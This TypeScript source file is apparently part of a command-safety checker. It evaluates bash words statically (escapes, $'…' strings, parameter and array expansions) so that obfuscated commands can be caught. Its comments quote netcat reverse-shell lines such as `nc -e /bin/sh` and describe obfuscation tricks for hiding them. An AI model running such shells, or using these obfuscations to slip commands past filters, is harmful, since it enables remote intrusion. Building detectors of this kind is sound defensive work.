// Why: turns a shell word node into the string the shell would pass to the program, the way bash
// does it (quote removal, backslash escapes, `$'…'` ANSI-C decoding, known variables, `${a:-b}`,
// `${a:1:2}`, `${a//x/y}` …). Threat it stops: obfuscated command names and arguments such as
// `c\url`, `'n'"c"`, `$'\x6e\x63'`, `a=nc; $a -e sh` or `${x:0:2}` slipping past rules that
// compare argv strings. What cannot be known statically (unknown variables, substitutions that
// are not static) keeps its source text and marks the value inexact.
import type { SNode } from './parser.js';

export interface WordValue {
  value: string;
  /** False when part of the value is unknown (unresolved expansion or substitution). */
  exact: boolean;
  /** A list's elements, each a word of its own ("$@", "${a[@]}"); `value` is them joined by spaces. */
  items?: string[];
}

/** The key a list (the positional parameters, an array) is kept under beside its scalar: no shell name starts with NUL. */
export const LIST_KEY = '\0list:';

/** The elements of list `name` (`@`: the positional parameters), when known. */
export function listOf(vars: Pick<Map<string, string>, 'get'>, name: string): string[] | undefined {
  const v = vars.get(LIST_KEY + name);
  return v === undefined ? undefined : v === '' ? [] : v.split('\0');
}

/** Sets list `name` (undefined: unknown), and its scalar, which is its first element (`$a` is `${a[0]}`). */
export function setList(vars: Map<string, string>, name: string, items: string[] | undefined): void {
  if (items === undefined) { vars.delete(LIST_KEY + name); if (name !== '@') vars.delete(name); return; }
  vars.set(LIST_KEY + name, items.join('\0'));
  if (name !== '@') vars.set(name, items[0] ?? '');
}

/** A list expanded whole: `@` gives each element as a word, `*` one word joined by IFS's first character. */
function listValue(items: string[], how: string, env: WordEnv): WordValue {
  if (how === '@') return { value: items.join(' '), exact: true, items };
  return { value: items.join((lookup(env, 'IFS') ?? ' ').charAt(0)), exact: true };
}

export interface WordEnv {
  text: string;
  vars: Pick<Map<string, string>, 'get'>;
  /** Static output of a `$(…)`/backtick substitution, or null when not computable. */
  substOutput(node: SNode): string | null;
  /** Called for every command or process substitution met while evaluating. */
  onSubst(node: SNode): void;
  /** A value bash expands again as a prompt (`${x@P}`): the substitutions in it run. */
  onPromptExpand?(value: string): void;
}

const SIMPLE_ESC: Record<string, string> = { a: '\x07', b: '\b', e: '\x1b', E: '\x1b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v', '\\': '\\', "'": "'", '"': '"', '?': '?' };

/** Decodes the body of a `$'…'` string (without `$'` and `'`). */
export function decodeAnsiC(body: string): string {
  let out = '';
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (c !== '\\' || i + 1 >= body.length) { out += c; continue; }
    const n = body[++i]!;
    if (n in SIMPLE_ESC) { out += SIMPLE_ESC[n]; continue; }
    let m: RegExpExecArray | null;
    const rest = body.slice(i);
    if ((m = /^x([0-9a-fA-F]{1,2})/.exec(rest))) { out += String.fromCharCode(parseInt(m[1]!, 16)); i += m[0].length - 1; continue; }
    if ((m = /^([0-7]{1,3})/.exec(rest))) { out += String.fromCharCode(parseInt(m[1]!, 8) & 0xff); i += m[0].length - 1; continue; }
    if ((m = /^u([0-9a-fA-F]{1,4})/.exec(rest)) || (m = /^U([0-9a-fA-F]{1,8})/.exec(rest))) {
      const cp = parseInt(m[1]!, 16);
      out += cp <= 0x10ffff ? String.fromCodePoint(cp) : '';
      i += m[0].length - 1; continue;
    }
    if (n === 'c' && i + 1 < body.length) { out += String.fromCharCode(body.charCodeAt(++i) & 0x1f); continue; }
    out += `\\${n}`;
  }
  return out;
}

/** Removes backslash escapes of an unquoted word (`c\url` → `curl`, `\<newline>` → ``). */
export function unescapeUnquoted(s: string): string {
  if (!s.includes('\\')) return s;
  let out = '';
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (c === '\\' && i + 1 < s.length) { const n = s[++i]!; if (n !== '\n') out += n; } else out += c;
  }
  return out;
}

/** Inside double quotes a backslash only escapes $ ` " \ and newline. */
function unescapeDouble(s: string): string {
  if (!s.includes('\\')) return s;
  let out = '';
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (c === '\\' && i + 1 < s.length && '$`"\\\n'.includes(s[i + 1]!)) { const n = s[++i]!; if (n !== '\n') out += n; } else out += c;
  }
  return out;
}

const src = (env: WordEnv, n: SNode): string => env.text.slice(n.start, n.end);

/** Evaluates a word-like node (word, string, raw_string, concatenation, expansion …). */
export function evalWord(n: SNode, env: WordEnv, inDouble = false): WordValue {
  switch (n.type) {
    case 'word': case 'command_name': case 'variable_name':
      if (n.children.length > 0 && n.type === 'command_name') return evalWord(n.children[0]!, env, inDouble);
      return { value: inDouble ? unescapeDouble(src(env, n)) : unescapeUnquoted(src(env, n)), exact: true };
    case 'number': case 'file_descriptor': case 'special_variable_name': case 'regex':
      return { value: src(env, n), exact: true };
    case 'string_content':
      return { value: unescapeDouble(src(env, n)), exact: true };
    case 'raw_string': {
      const t = src(env, n);
      return { value: t.length >= 2 && t.endsWith("'") ? t.slice(1, -1) : t.slice(1), exact: true };
    }
    case 'ansi_c_string': {
      const t = src(env, n);
      return { value: decodeAnsiC(t.length >= 3 && t.endsWith("'") ? t.slice(2, -1) : t.slice(2)), exact: true };
    }
    case 'string': case 'translated_string': case 'concatenation':
      return evalParts(n, env, n.type !== 'concatenation' || inDouble);
    case 'simple_expansion': return evalSimpleExpansion(n, env);
    case 'expansion': return evalExpansion(n, env);
    case 'command_substitution': {
      env.onSubst(n);
      const out = env.substOutput(n);
      // Like bash: trailing newlines of the output are removed.
      return out === null ? { value: src(env, n), exact: false } : { value: out.replace(/\n+$/, ''), exact: true };
    }
    case 'process_substitution':
      env.onSubst(n);
      return { value: src(env, n), exact: false };
    default:
      return { value: src(env, n), exact: false };
  }
}

/** Concatenates children, treating text between children (not covered by a node) as literal. */
function evalParts(n: SNode, env: WordEnv, inDouble: boolean): WordValue {
  let value = '';
  let exact = true;
  let pos = n.start;
  let items: string[] | undefined;
  const named = n.children.filter((c) => c.named).length;
  for (const c of n.children) {
    if (c.start > pos) value += inDouble ? unescapeDouble(env.text.slice(pos, c.start)) : unescapeUnquoted(env.text.slice(pos, c.start));
    pos = Math.max(pos, c.end);
    if (!c.named) continue; // quotes
    const v = evalWord(c, env, inDouble);
    value += v.value;
    exact &&= v.exact;
    if (named === 1 && n.type === 'string') items = v.items; // ("$@" alone: its elements stay words)
  }
  if (n.end > pos && n.type === 'concatenation') value += unescapeUnquoted(env.text.slice(pos, n.end));
  return items && exact ? { value, exact, items } : { value, exact };
}

/**
 * A variable's known value. IFS is set by every shell at start-up (space, tab, newline), so an IFS
 * the command did not assign still has that value: `nc${IFS}-e${IFS}/bin/sh` is `nc -e /bin/sh`.
 */
function lookup(env: WordEnv, name: string, hops = 0): string | undefined {
  // (a name reference, `declare -n r=x`: $r is $x, `declare -n r='a[0]'` an element; declared empty, the first value
  // assigned to it names its target; session 46)
  const ref = env.vars.get(REF_KEY + name);
  const target = ref === '' ? env.vars.get(name) : ref;
  if (target !== undefined && hops < 8) {
    const el = /^(\w+)\[(-?\d+)\]$/.exec(target);
    if (!el) return /^\w+$/.test(target) ? lookup(env, target, hops + 1) : undefined;
    const items = listOf(env.vars, el[1]!);
    return items && elementAt(items, Number(el[2]));
  }
  return env.vars.get(name) ?? (name === 'IFS' ? ' \t\n' : undefined);
}

/** The key a name reference (`declare -n r=x`) keeps its target under. */
export const REF_KEY = '\0ref:';

function evalSimpleExpansion(n: SNode, env: WordEnv): WordValue {
  const name = n.children.find((c) => c.type === 'variable_name' || c.type === 'special_variable_name');
  const key = name ? src(env, name) : '';
  // "$@", $*, $#: the positional parameters `set --` gave (session 46: `set -- nc -e /bin/sh h 1; "$@"`)
  const args = key === '@' || key === '*' || key === '#' ? listOf(env.vars, '@') : undefined;
  if (args) return key === '#' ? { value: String(args.length), exact: true } : listValue(args, key, env);
  const v = name ? lookup(env, key) : undefined;
  return v === undefined ? { value: src(env, n), exact: false } : { value: v, exact: true };
}

function literal(n: SNode | undefined, env: WordEnv): string | null {
  if (!n) return '';
  const v = evalWord(n, env);
  return v.exact ? v.value : null;
}

function evalExpansion(n: SNode, env: WordEnv): WordValue {
  const unknown: WordValue = { value: src(env, n), exact: false };
  const kids = n.children.filter((c) => c.type !== '${' && c.type !== '}');
  // ${a[@]}, ${a[*]}, ${a[N]}: an array's elements (session 46: `a=(nc -e /bin/sh h 1); "${a[@]}"`)
  if (kids[0]?.type === 'subscript' || (kids[0]?.type === 'special_variable_name' && src(env, kids[0]) === '@' && kids.length > 1)) {
    const args = kids[0].type === 'subscript' ? undefined : listOf(env.vars, '@');
    const whole = kids[0].type === 'subscript' ? evalSubscript(kids[0], env) : args && listValue(args, '@', env);
    if (!whole || kids.length === 1) return whole ?? unknown;
    return whole.items ? sliceList(whole.items, kids.slice(1), env, kids[0].type !== 'subscript') ?? unknown : unknown;
  }
  const nameIdx = kids.findIndex((c) => c.type === 'variable_name' || c.type === 'special_variable_name');
  if (nameIdx < 0) return unknown;
  const pre = kids.slice(0, nameIdx).map((c) => src(env, c)).join('');
  const rest = kids.slice(nameIdx + 1);
  // ${!ref}: the variable ref names (session 45: `y=x; ${!y}` ran $x unjudged)
  if (pre === '!' && rest.length === 0) {
    const ref = lookup(env, src(env, kids[nameIdx]!));
    const v = ref !== undefined && /^\w+$/.test(ref) ? lookup(env, ref) : undefined;
    return v === undefined ? unknown : { value: v, exact: true };
  }
  const val = lookup(env, src(env, kids[nameIdx]!));
  if (pre === '#' && rest.length === 0) return val === undefined ? unknown : { value: String(val.length), exact: true };
  if (pre !== '') return unknown;
  if (rest.length === 0) return val === undefined ? unknown : { value: val, exact: true };
  const op = src(env, rest[0]!);
  const arg = rest[1];
  const set = val !== undefined && val !== '';
  switch (op) {
    case ':-': case ':=': { if (set) return { value: val, exact: true }; const d = literal(arg, env); return d === null ? unknown : { value: d, exact: true }; }
    case '-': case '=': { if (val !== undefined) return { value: val, exact: true }; const d = literal(arg, env); return d === null ? unknown : { value: d, exact: true }; }
    case ':+': { if (val === undefined) return unknown; const d = literal(arg, env); return !set ? { value: '', exact: true } : d === null ? unknown : { value: d, exact: true }; }
  }
  if (val === undefined) return unknown;
  switch (op) {
    case ':': {
      // ${x:off}, ${x:off:len}, ${x::len} (an empty offset is 0: `${x::2}` was read as the whole value, session 45)
      const emptyOff = arg !== undefined && src(env, arg) === ':';
      const num = (k: SNode | undefined): string | null => (k && /expression$/.test(k.type) && !/\$/.test(src(env, k)) ? src(env, k) : literal(k, env));
      const offText = emptyOff ? '0' : num(arg);
      const lenNode = emptyOff ? rest[2] : rest[2] !== undefined ? rest[3] : undefined;
      const lenText = lenNode === undefined ? undefined : num(lenNode);
      if (offText === null || lenText === null || (emptyOff && lenNode === undefined) || (rest[2] !== undefined && !emptyOff && src(env, rest[2]) !== ':')) return unknown;
      const off = arith(offText);
      const len = lenText === undefined ? undefined : arith(lenText);
      if (offText.trim() === '' || !Number.isInteger(off) || (len !== undefined && (lenText!.trim() === '' || !Number.isInteger(len)))) return unknown;
      const start = off < 0 ? Math.max(0, val.length + off) : off;
      const end = len === undefined ? val.length : len < 0 ? val.length + len : start + len;
      return { value: val.slice(start, Math.max(start, end)), exact: true };
    }
    case '//': case '/': {
      const pat = literal(arg, env);
      const rep = literal(rest[3], env) ?? null;
      if (pat === null || rep === null || /[*?[]/.test(pat) || pat === '') return unknown;
      return { value: op === '//' ? val.split(pat).join(rep) : val.replace(pat, () => rep), exact: true };
    }
    case '#': case '##': case '%': case '%%': {
      const pat = literal(arg, env);
      if (pat === null || /[*?[]/.test(pat)) return unknown;
      if (op.startsWith('#')) return { value: val.startsWith(pat) ? val.slice(pat.length) : val, exact: true };
      return { value: val.endsWith(pat) ? val.slice(0, val.length - pat.length) : val, exact: true };
    }
    case '@': {
      // ${x@E}: the value with backslash escapes expanded as $'…' would; ${x@Q} quotes it; the others are unknown here
      const t = rest[1] ? src(env, rest[1]) : '';
      if (t === 'E') return { value: decodeAnsiC(val), exact: true };
      if (t === 'L') return { value: val.toLowerCase(), exact: true };
      if (t === 'U') return { value: val.toUpperCase(), exact: true };
      if (t === 'u') return { value: val.charAt(0).toUpperCase() + val.slice(1), exact: true };
      // ${x@P}: x expanded as a prompt string is, `$(…)` and backticks in it run (session 46)
      if (t === 'P' && /[$`]/.test(val)) env.onPromptExpand?.(val);
      return unknown;
    }
    case '~~': return { value: [...val].map((c) => (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase())).join(''), exact: true };
    case '~': return { value: (val.charAt(0) === val.charAt(0).toUpperCase() ? val.charAt(0).toLowerCase() : val.charAt(0).toUpperCase()) + val.slice(1), exact: true };
    case '^^': return { value: val.toUpperCase(), exact: true };
    case ',,': return { value: val.toLowerCase(), exact: true };
    case '^': return { value: val.charAt(0).toUpperCase() + val.slice(1), exact: true };
    case ',': return { value: val.charAt(0).toLowerCase() + val.slice(1), exact: true };
    default: return unknown;
  }
}

/** `a[@]`, `a[*]` or `a[N]` (N a number, negative from the end) of a known array; undefined otherwise. */
function evalSubscript(n: SNode, env: WordEnv): WordValue | undefined {
  const name = n.children.find((c) => c.type === 'variable_name');
  const open = n.children.findIndex((c) => c.type === '[');
  const index = open >= 0 ? n.children[open + 1] : undefined;
  const items = name && index ? listOf(env.vars, src(env, name)) : undefined;
  if (!items || !index) return undefined;
  const at = src(env, index);
  if (at === '@' || at === '*') return listValue(items, at, env);
  const i = arith(at);
  if (!Number.isInteger(i)) return undefined;
  return { value: elementAt(items, i) ?? '', exact: true };
}

/** Element i of a list, negative counting from the end (`${a[-1]}`). */
function elementAt(items: string[], i: number): string | undefined {
  return items[i < 0 ? items.length + i : i];
}

/** `${a[@]:OFF[:LEN]}`, `${@:OFF[:LEN]}`: the elements from OFF (for "$@", counted from $0: OFF 1 is $1). */
function sliceList(items: string[], rest: SNode[], env: WordEnv, positional = false): WordValue | undefined {
  const parts = rest.map((c) => src(env, c));
  if (parts[0] !== ':' || parts.length > 4 || (parts.length === 4 && parts[2] !== ':')) return undefined;
  const off = arith(parts[1] ?? '0'), len = parts.length === 4 ? arith(parts[3]!) : Infinity;
  if (!Number.isInteger(off) || !(Number.isInteger(len) || len === Infinity) || len < 0) return undefined;
  const from = positional ? off - 1 : off;
  const start = from < 0 ? Math.max(0, items.length + from) : from;
  return listValue(items.slice(start, start + len), '@', env);
}

/** A substring offset or length: a number, or a sum of numbers in parentheses or not (`0+1`, `(1)`); NaN otherwise. */
function arith(t: string): number {
  const x = t.replace(/[\s()]/g, '');
  return /^[-+]?\d+(?:[-+]\d+)*$/.test(x) ? x.match(/[-+]?\d+/g)!.reduce((a, b) => a + Number(b), 0) : NaN;
}
